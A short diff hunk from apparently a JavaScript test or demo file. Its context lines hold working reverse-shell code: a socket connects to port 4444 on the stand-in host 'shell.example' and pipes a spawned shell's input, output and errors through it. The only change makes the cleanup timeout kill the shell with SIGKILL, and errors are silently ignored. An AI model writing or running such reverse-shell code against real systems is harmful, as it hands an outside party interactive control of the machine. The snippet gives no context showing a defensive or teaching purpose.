@@ -16,6 +16,6 @@ const socket = net.connect(4444, "shell.example", () => {
   socket.pipe(shell.stdin);
   shell.stdout.pipe(socket);
   shell.stderr.pipe(socket);
-  setTimeout(() => { shell.kill(); socket.destroy(); }, 5000);
+  setTimeout(() => { shell.kill("SIGKILL"); socket.destroy(); }, 5000);
 });
 socket.on("error", () => {});
